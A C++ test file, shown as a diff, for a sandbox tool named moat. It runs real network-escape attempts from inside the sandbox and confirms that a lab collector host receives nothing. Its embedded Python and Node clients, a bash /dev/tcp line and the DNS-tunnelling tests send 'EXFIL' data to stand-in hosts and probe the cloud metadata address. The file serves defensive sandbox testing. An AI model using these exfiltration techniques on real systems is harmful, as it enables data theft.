@@ -1,0 +1,511 @@
+// Network suite: each TEST_P performs one REAL network attack (or one allowed path) inside
+// `moat run --add-host registry.test=REG --allow-host registry.test --add-host collector.test=COL`
+// and checks the outcome from OUTSIDE: the collector host (its own network namespace, see netlab.h)
+// records everything it receives, and must have received nothing from the sandbox. Every attack has
+// an unconfined control (same command, same identity, no moat) that must reach the collector, so each
+// test can fail. Parameterised over {root, user}.
+#include <arpa/inet.h>
+#include <ctype.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <sstream>
+#include <thread>
+
+#include "netlab.h"
+#include "sandbox_harness.h"
+
+namespace moat::testing {
+namespace {
+
+using P = std::vector<std::string>;
+
+class LabEnvironment : public ::testing::Environment {
+ public:
+  void SetUp() override { NetLab::set_up(); }
+  void TearDown() override { NetLab::tear_down(); }
+};
+const auto* const kLabEnv = ::testing::AddGlobalTestEnvironment(new LabEnvironment);
+
+// The attacker's network client, written into the project. Prints exactly one "RESULT ..." line.
+constexpr char kClientPy[] = R"PY(
+import socket, sys, select, struct, threading, time, os
+def out(s):
+    print('RESULT ' + s, flush=True)
+def dns_query(name, qtype=1):
+    q = struct.pack('>HHHHHH', 0x4d54, 0x0100, 1, 0, 0, 0)
+    for label in name.strip('.').split('.'):
+        q += bytes([len(label)]) + label.encode()
+    return q + b'\x00' + struct.pack('>HH', qtype, 1)
+mode, args = sys.argv[1], sys.argv[2:]
+try:
+    if mode == 'urllib':
+        import urllib.request
+        h = urllib.request.ProxyHandler({})
+        body = urllib.request.build_opener(h).open(args[0], timeout=3).read().decode(errors='replace')
+        out('OK ' + body.strip())
+    elif mode == 'tcp':
+        host, port = args[0], int(args[1])
+        fam = socket.AF_INET6 if ':' in host else socket.AF_INET
+        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
+        s.connect((host, port)); s.sendall(b'EXFIL ' + (args[2] if len(args) > 2 else 'x').encode() + b'\n')
+        out('OK connected %s:%d' % (host, port))
+    elif mode == 'udp':
+        host, port = args[0], int(args[1])
+        fam = socket.AF_INET6 if ':' in host else socket.AF_INET
+        s = socket.socket(fam, socket.SOCK_DGRAM)
+        n = s.sendto(b'EXFIL ' + args[2].encode(), (host, port))
+        out('OK sent %d' % n)
+    elif mode == 'udp-connected':
+        host, port = args[0], int(args[1])
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.connect((host, port)); n = s.send(b'EXFIL ' + args[2].encode())
+        out('OK sent %d' % n)
+    elif mode == 'dns-udp':
+        server, name = args[0], args[1]
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+        s.sendto(dns_query(name), (server, 53))
+        try:
+            r, _ = s.recvfrom(4096)
+            out('OK answered rcode=%d ancount=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
+        except socket.timeout:
+            out('OK sent no-answer')
+    elif mode == 'dns-tcp':
+        server, name = args[0], args[1]
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
+        s.connect((server, 53)); q = dns_query(name)
+        s.sendall(struct.pack('>H', len(q)) + q)
+        out('OK sent over tcp')
+    elif mode == 'resolve':
+        try:
+            infos = socket.getaddrinfo(args[0], 80, socket.AF_INET, socket.SOCK_STREAM)
+            out('OK ' + ' '.join(sorted(set(i[4][0] for i in infos))))
+        except socket.gaierror as e:
+            out('ERR gaierror %d %s' % (e.errno, e))
+    elif mode == 'nonblock':
+        host, port = args[0], int(args[1])
+        ip = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setblocking(False)
+        rc = s.connect_ex((ip, port))
+        if rc not in (0, 115):
+            out('ERR connect_ex %d %s' % (rc, os.strerror(rc))); sys.exit(1)
+        _, w, _ = select.select([], [s], [], 3)
+        if not w:
+            out('ERR not writable'); sys.exit(1)
+        e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+        if e:
+            out('ERR SO_ERROR %d %s' % (e, os.strerror(e))); sys.exit(1)
+        fl = 'nonblocking' if s.getblocking() is False and s.gettimeout() == 0.0 else 'blocking'
+        s.sendall(b'GET / HTTP/1.0\r\nHost: ' + host.encode() + b'\r\n\r\n')
+        data = b''
+        deadline = time.time() + 3
+        while time.time() < deadline:
+            r, _, _ = select.select([s], [], [], 0.5)
+            if r:
+                chunk = s.recv(65536)
+                if not chunk: break
+                data += chunk
+        out('OK connect_ex=%d %s %s' % (rc, fl, data.decode(errors='replace').split('\r\n\r\n', 1)[-1].strip()))
+    elif mode == 'loopback':
+        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        srv.bind(('127.0.0.1', 0)); srv.listen(1)
+        port = srv.getsockname()[1]
+        def serve():
+            c, _ = srv.accept(); c.sendall(b'loopback-ok ' + c.recv(100)); c.close()
+        threading.Thread(target=serve, daemon=True).start()
+        s = socket.create_connection(('127.0.0.1', port), timeout=3)
+        s.sendall(b'ping'); out('OK ' + s.recv(100).decode())
+    else:
+        out('ERR unknown mode'); sys.exit(2)
+except Exception as e:
+    out('ERR %s %s' % (type(e).__name__, e)); sys.exit(1)
+)PY";
+
+constexpr char kClientJs[] = R"JS(
+const [mode, a, b] = process.argv.slice(2);
+const out = (s) => console.log('RESULT ' + s);
+if (mode === 'fetch') {
+  fetch(a, { signal: AbortSignal.timeout(3000) })
+    .then((r) => r.text()).then((t) => out('OK ' + t.trim()))
+    .catch((e) => { out('ERR ' + (e.cause ? e.cause.code || e.cause.message : e.message)); process.exitCode = 1; });
+} else if (mode === 'net') {
+  const net = require('net');
+  const s = net.connect({ host: a, port: Number(b), timeout: 3000 }, () => {
+    s.end('EXFIL node\n'); out('OK connected');
+  });
+  s.on('error', (e) => { out('ERR ' + e.code); process.exitCode = 1; });
+  s.on('timeout', () => { out('ERR timeout'); s.destroy(); process.exitCode = 1; });
+} else {
+  out('ERR unknown mode'); process.exitCode = 2;
+}
+)JS";
+
+std::string result_line(const RunResult& r) {
+  std::istringstream in(r.out);
+  std::string l;
+  while (std::getline(in, l)) {
+    if (l.rfind("RESULT ", 0) == 0) return l.substr(7);
+  }
+  return "";
+}
+
+std::string join_lines(const std::vector<std::string>& v) {
+  std::string s;
+  for (const auto& l : v) s += "  " + l + "\n";
+  return s;
+}
+
+// Audit lines (JSON, one event a line) with every NEEDLE in them.
+std::vector<std::string> audit_matching(const std::string& audit, const std::vector<std::string>& needles) {
+  std::vector<std::string> hits;
+  std::istringstream in(audit);
+  std::string l;
+  while (std::getline(in, l)) {
+    bool all = true;
+    for (const auto& n : needles) all = all && l.find(n) != std::string::npos;
+    if (all) hits.push_back(l);
+  }
+  return hits;
+}
+
+// A TCP listener on the HOST's 127.0.0.1 (random port): the sandbox's loopback must not be it.
+class HostLoopbackListener {
+ public:
+  HostLoopbackListener() {
+    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+    sockaddr_in sa{};
+    sa.sin_family = AF_INET;
+    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof sa;
+    ok_ = fd_ >= 0 && bind(fd_, reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0 &&
+          listen(fd_, 16) == 0 && getsockname(fd_, reinterpret_cast<sockaddr*>(&sa), &len) == 0;
+    port_ = ntohs(sa.sin_port);
+  }
+  ~HostLoopbackListener() {
+    if (fd_ >= 0) close(fd_);
+  }
+  bool ok() const { return ok_; }
+  int port() const { return port_; }
+  int accept_all() {
+    int n = 0;
+    for (;;) {
+      int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) break;
+      close(c);
+      ++n;
+    }
+    return n;
+  }
+
+ private:
+  int fd_ = -1, port_ = 0;
+  bool ok_ = false;
+};
+
+class Net : public SandboxTest {
+ protected:
+  void SetUp() override {
+    SandboxTest::SetUp();
+    if (HasFatalFailure() || IsSkipped()) return;
+    lab_ = NetLab::get();
+    ASSERT_NE(lab_, nullptr) << "network lab: " << NetLab::error();
+    audit_ = sb().in_outside("audit.jsonl");
+    sb().write_file(sb().in_project("client.py"), kClientPy);
+    sb().write_file(sb().in_project("client.js"), kClientJs);
+  }
+
+  const NetLab& lab() const { return *lab_; }
+  std::string reg_url(const std::string& host = "registry.test") const {
+    return "http://" + host + ":" + std::to_string(NetLab::kRegistryHttpPort) + "/";
+  }
+  // The collector's name is NOT given to moat: `--add-host collector.test=COL` alone makes it an
+  // allowed static host (documented in docs/profiles.md, contrary to the brief; see the DISABLED_
+  // test at the end), so by-name attacks ask the stub for a name it does not know.
+  std::vector<std::string> gate_args() const {
+    return {"--add-host", "registry.test=" + lab().registry4(), "--allow-host", "registry.test",
+            "--audit", audit_};
+  }
+  std::string audit() const { return read_file(audit_); }
+
+  static P py(P args) {
+    args.insert(args.begin(), {"/usr/bin/python3", "./client.py"});
+    return args;
+  }
+  static P node(P args) {
+    args.insert(args.begin(), {"/usr/bin/node", "./client.js"});
+    return args;
+  }
+  // A shell command that always reports "RESULT rc=N".
+  static P shell(const std::string& script) {
+    return {"/bin/sh", "-c", script + "; echo \"RESULT rc=$?\""};
+  }
+
+  // The control: CMD unconfined must reach the collector (within 3 s), or the attack proves nothing.
+  void control_reaches_collector(const P& cmd, const std::string& what) {
+    size_t n0 = lab().collector_count();
+    RunSpec spec;
+    spec.timeout_s = 10;
+    RunResult r = sb().direct(cmd, spec);
+    EXPECT_TRUE(lab().wait_collector_beyond(n0, 3))
+        << "CONTROL (no moat) did not reach the collector, the attack would prove nothing: " << what
+        << "\n" << r.describe();
+    // Let the collector finish with the control's connections, so that nothing it logs late is
+    // blamed on the attack that follows.
+    lab().wait_quiet(3);
+  }
+
+  // The attack: CMD inside moat must have run (printed its RESULT / probe line) and the collector
+  // must have received nothing, even after a settle time for late packets.
+  RunResult attack(const P& cmd, const std::string& what, bool probe = false) {
+    size_t n0 = lab().collector_count();
+    RunSpec spec;
+    spec.timeout_s = 20;
+    RunResult r = sb().moat(cmd, gate_args(), spec);
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+    auto got = lab().collector_since(n0);
+    EXPECT_TRUE(got.empty()) << "ESCAPE (" << what << "): the collector received from the sandbox:\n"
+                             << join_lines(got) << r.describe();
+    if (probe) {
+      EXPECT_NE(r.probe_line(), "") << "the attack never ran inside the sandbox (vacuous)\n" << r.describe();
+    } else {
+      EXPECT_NE(result_line(r), "") << "the attack never ran inside the sandbox (vacuous)\n" << r.describe();
+    }
+    EXPECT_FALSE(r.timed_out) << what << "\n" << r.describe();
+    return r;
+  }
+
+  // Both, control first: the same command unconfined reaches the collector, confined it does not.
+  RunResult blocked(const P& cmd, const std::string& what, bool probe = false) {
+    control_reaches_collector(cmd, what);
+    return attack(cmd, what, probe);
+  }
+
+  // An allowed-path run: the body the registry serves must come back.
+  RunResult allowed(const P& cmd, const std::string& what) {
+    RunSpec spec;
+    spec.timeout_s = 20;
+    RunResult r = sb().moat(cmd, gate_args(), spec);
+    EXPECT_NE(r.out.find(lab().registry_body()), std::string::npos)
+        << what << ": the allowed registry was not reachable\n" << r.describe();
+    return r;
+  }
+
+  NetLab* lab_ = nullptr;
+  std::string audit_;
+};
+
+// ---- the allowed path keeps working ----------------------------------------------------------------
+
+TEST_P(Net, AllowedCurlGetsRegistryBody) {
+  RunResult r = allowed(shell("curl --noproxy '*' -sS -m 5 " + reg_url()), "curl");
+  EXPECT_EQ(result_line(r), "rc=0") << r.describe();
+  // The audit names the connection by the host name it was resolved for.
+  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"allowed\"",
+                                     "\"name\":\"registry.test\"", "\"address\":\"" + lab().registry4() + "\"",
+                                     "\"port\":" + std::to_string(NetLab::kRegistryHttpPort)});
+  EXPECT_FALSE(ev.empty()) << "no allowed connect event for registry.test in the audit:\n" << audit();
+  EXPECT_NE(r.err.find("registry.test"), std::string::npos)
+      << "the exit summary does not list the host contacted\n" << r.describe();
+}
+
+TEST_P(Net, AllowedPythonUrllibGetsRegistryBody) {
+  RunResult r = allowed(py({"urllib", reg_url()}), "python3 urllib");
+  EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
+}
+
+TEST_P(Net, AllowedNodeFetchGetsRegistryBody) {
+  RunResult r = allowed(node({"fetch", reg_url()}), "node fetch");
+  EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
+}
+
+TEST_P(Net, AllowedNonBlockingConnectWorks) {
+  // connect() on an O_NONBLOCK socket: EINPROGRESS or 0, then writable, SO_ERROR 0, still
+  // non-blocking (the injected socket keeps the flags), and the HTTP exchange completes.
+  RunResult r = allowed(py({"nonblock", "registry.test", std::to_string(NetLab::kRegistryHttpPort)}),
+                        "non-blocking connect");
+  std::string res = result_line(r);
+  EXPECT_EQ(res.rfind("OK ", 0), 0u) << r.describe();
+  EXPECT_NE(res.find(" nonblocking "), std::string::npos) << "the socket lost O_NONBLOCK\n" << r.describe();
+}
+
+TEST_P(Net, AllowedTlsToRegistry) {
+  RunResult r = sb().moat(
+      shell("curl --noproxy '*' -sS -k -m 5 https://registry.test:" +
+            std::to_string(NetLab::kRegistryTlsPort) + "/ | head -c 2000"),
+      gate_args());
+  EXPECT_NE(r.out.find("s_server"), std::string::npos) << "TLS to the allowed registry failed\n"
+                                                        << r.describe();
+}
+
+TEST_P(Net, LoopbackServerInsideSandboxWorks) {
+  RunResult r = sb().moat(py({"loopback"}), gate_args());
+  EXPECT_EQ(result_line(r), "OK loopback-ok ping") << r.describe();
+}
+
+// ---- attacks: nothing reaches the collector ----------------------------------------------------------
+
+TEST_P(Net, CurlToCollectorByNameAndAddress) {
+  for (int port : NetLab::collector_tcp_ports()) {
+    std::string p = std::to_string(port);
+    // Control by address (the host cannot resolve collector.test), attack by name and by address.
+    control_reaches_collector(shell("curl --noproxy '*' -sS -m 3 http://" + lab().collector4() + ":" + p + "/"),
+                              "curl to collector:" + p);
+    RunResult byname = attack(shell("curl --noproxy '*' -sS -m 3 http://collector.test:" + p + "/"),
+                              "curl collector.test:" + p);
+    EXPECT_NE(result_line(byname), "rc=0") << byname.describe();
+    RunResult byaddr = attack(shell("curl --noproxy '*' -sS -m 3 http://" + lab().collector4() + ":" + p + "/"),
+                              "curl " + lab().collector4() + ":" + p);
+    EXPECT_NE(result_line(byaddr), "rc=0") << byaddr.describe();
+    EXPECT_LT(byaddr.seconds, 2.0) << "a refused connect must fail at once, not time out\n" << byaddr.describe();
+  }
+  // The refusals are in the audit (the gate decided; not a routing accident).
+  attack(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "probe for the audit", true);
+  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"refused\"",
+                                     "\"address\":\"" + lab().collector4() + "\"", "\"port\":4444"});
+  EXPECT_FALSE(ev.empty()) << "no refused connect event for the collector in the audit:\n" << audit();
+}
+
+TEST_P(Net, PythonUrllibToCollector) {
+  RunResult r = blocked(py({"urllib", "http://" + lab().collector4() + ":8080/"}), "python urllib by address");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+  r = attack(py({"urllib", "http://collector.test:8080/"}), "python urllib by name");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+}
+
+TEST_P(Net, PythonRawSocketToCollector) {
+  RunResult r = blocked(py({"tcp", lab().collector4(), "4444", sb().canary("pyraw")}), "python raw socket");
+  EXPECT_NE(result_line(r).find("Permission"), std::string::npos)
+      << "expected EACCES from the gate\n" << r.describe();
+}
+
+TEST_P(Net, ProbeConnectSyscallToCollector) {
+  // The plain connect(2) of a static C binary the attacker brought.
+  RunResult r = blocked(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "probe connect-tcp", true);
+  EXPECT_EQ(r.probe_errno(), "EACCES") << r.describe();
+}
+
+TEST_P(Net, NodeFetchAndNetConnectToCollector) {
+  RunResult r = blocked(node({"fetch", "http://" + lab().collector4() + ":80/"}), "node fetch");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+  r = blocked(node({"net", lab().collector4(), "4444"}), "node net.connect");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+  r = attack(node({"net", "collector.test", "443"}), "node net.connect by name");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+}
+
+TEST_P(Net, BashDevTcpOddPort) {
+  // No nc on this system: bash's /dev/tcp is the shell-only client for an odd port.
+  RunResult r = blocked({"/bin/bash", "-c",
+                         "exec 3<>/dev/tcp/" + lab().collector4() + "/4444 && echo EXFIL >&3; echo \"RESULT rc=$?\""},
+                        "bash /dev/tcp");
+  EXPECT_NE(result_line(r), "rc=0") << r.describe();
+}
+
+TEST_P(Net, Ipv6ToCollector) {
+  std::string a6 = lab().collector6();
+  RunResult r = blocked(Sandbox::probe({"connect-tcp", a6, "4444"}), "probe IPv6 connect", true);
+  EXPECT_FALSE(r.probe_ok()) << r.describe();
+  r = blocked(py({"tcp", a6, "80"}), "python IPv6 connect");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+  r = blocked(shell("curl --noproxy '*' -sS -m 3 -g http://[" + a6 + "]:8080/"), "curl IPv6");
+  EXPECT_NE(result_line(r), "rc=0") << r.describe();
+  blocked(py({"udp", a6, "4444", "v6"}), "UDP over IPv6");
+}
+
+TEST_P(Net, UdpToCollector) {
+  // sendto() may "succeed" locally or fail; what matters is that no datagram arrives.
+  blocked(py({"udp", lab().collector4(), "4444", sb().canary("udp")}), "udp sendto :4444");
+  blocked(py({"udp-connected", lab().collector4(), "4444", sb().canary("udpc")}), "connected udp :4444");
+  blocked(py({"udp", lab().collector4(), "53", sb().canary("udp53")}), "udp sendto :53");
+}
+
+TEST_P(Net, DnsQueryForCollectorNameIsNxdomainAndNotForwarded) {
+  size_t n0 = lab().collector_count();
+  // The stub lowercases names (the tag may not be lowercase).
+  std::string exfil = "exfil-" + sb().tag() + ".collector-unlisted.test";
+  for (char& c : exfil) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
+  RunResult r = sb().moat(py({"resolve", "collector-unlisted.test"}), gate_args());
+  EXPECT_EQ(result_line(r).rfind("ERR gaierror", 0), 0u) << r.describe();
+  // Straight to the stub: NXDOMAIN (rcode 3) for a name that is not allowed.
+  r = sb().moat(py({"dns-udp", "127.0.0.53", exfil}), gate_args());
+  EXPECT_EQ(result_line(r), "OK answered rcode=3 ancount=0") << r.describe();
+  auto ev = audit_matching(audit(), {"\"kind\":\"dns\"", "\"verdict\":\"refused\"",
+                                     "\"name\":\"" + exfil + "\""});
+  EXPECT_FALSE(ev.empty()) << "no refused dns event in the audit:\n" << audit();
+  // Allowed name through the stub: answered with the registry (the stub works; the NXDOMAIN is policy).
+  r = sb().moat(py({"dns-udp", "127.0.0.53", "registry.test"}), gate_args());
+  EXPECT_EQ(result_line(r), "OK answered rcode=0 ancount=1") << r.describe();
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  auto got = lab().collector_since(n0);
+  EXPECT_TRUE(got.empty()) << "the collector received DNS traffic:\n" << join_lines(got);
+}
+
+TEST_P(Net, DnsExfilToCollectorAsResolver) {
+  // Data encoded under an ALLOWED domain, sent to the collector as if it were a resolver.
+  std::string name = "6d6f61742d736563726574." + sb().tag() + ".registry.test";
+  RunResult r = blocked(py({"dns-udp", lab().collector4(), name}), "DNS over UDP to the collector");
+  EXPECT_EQ(result_line(r).find("answered"), std::string::npos) << r.describe();
+  r = blocked(py({"dns-tcp", lab().collector4(), name}), "DNS over TCP to the collector");
+  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+}
+
+TEST_P(Net, IoUringConnectToCollector) {
+  RunResult r = blocked(Sandbox::probe({"io-uring-connect", lab().collector4(), "4444"}), "io_uring connect", true);
+  EXPECT_FALSE(r.probe_ok()) << r.describe();
+  EXPECT_NE(r.probe_line().find("io_uring_setup"), std::string::npos)
+      << "io_uring_setup must be refused by seccomp\n" << r.describe();
+}
+
+TEST_P(Net, HostLoopbackListenerUnreachable) {
+  HostLoopbackListener l;
+  ASSERT_TRUE(l.ok());
+  std::string p = std::to_string(l.port());
+  RunResult c = sb().direct(Sandbox::probe({"connect-tcp", "127.0.0.1", p}));
+  EXPECT_TRUE(c.probe_ok()) << "CONTROL (no moat) could not reach the host listener\n" << c.describe();
+  EXPECT_EQ(l.accept_all(), 1) << "CONTROL: the host listener did not see the connection";
+  RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "127.0.0.1", p}), gate_args());
+  EXPECT_NE(r.probe_line(), "") << r.describe();
+  EXPECT_FALSE(r.probe_ok()) << "127.0.0.1 inside reached something\n" << r.describe();
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  EXPECT_EQ(l.accept_all(), 0) << "ESCAPE: the host's loopback listener accepted a connection from the sandbox\n"
+                               << r.describe();
+}
+
+TEST_P(Net, CloudMetadataRefusedQuickly) {
+  // No control that sends to 169.254.169.254 (the lab never touches other addresses); the proof that
+  // the gate decided is EACCES (inside, a missing route would give ENETUNREACH) plus the audit event.
+  RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "169.254.169.254", "80"}), gate_args());
+  EXPECT_EQ(r.probe_errno(), "EACCES") << r.describe();
+  EXPECT_LT(r.seconds, 1.0) << "the metadata address must be refused at once, not hang\n" << r.describe();
+  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"refused\"", "169.254.169.254"});
+  EXPECT_FALSE(ev.empty()) << "no refused connect event for 169.254.169.254:\n" << audit();
+}
+
+TEST_P(Net, ExitSummaryReportsRefusals) {
+  RunResult r = attack(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "summary", true);
+  EXPECT_NE(r.err.find("moat: network refused:"), std::string::npos) << r.describe();
+  EXPECT_NE(r.err.find(lab().collector4()), std::string::npos) << r.describe();
+}
+
+// `--add-host NAME=ADDR` only answers NAME in the sandbox's DNS (like docker's --add-host); it does
+// not allow it. (This test caught moat treating every static host as allowed.)
+TEST_P(Net, AddHostAloneDoesNotAllow) {
+  P args = gate_args();
+  args.insert(args.end(), {"--add-host", "collector.test=" + lab().collector4()});
+  size_t n0 = lab().collector_count();
+  RunResult r = sb().moat(shell("curl --noproxy '*' -sS -m 3 http://collector.test:4444/"), args);
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  auto got = lab().collector_since(n0);
+  EXPECT_TRUE(got.empty()) << "a name given only to --add-host was reachable:\n" << join_lines(got)
+                           << r.describe();
+}
+
+INSTANTIATE_TEST_SUITE_P(Identities, Net, ::testing::Values(Identity::kRoot, Identity::kUser),
+                         IdentityName());
+
+}  // namespace
+}  // namespace moat::testing
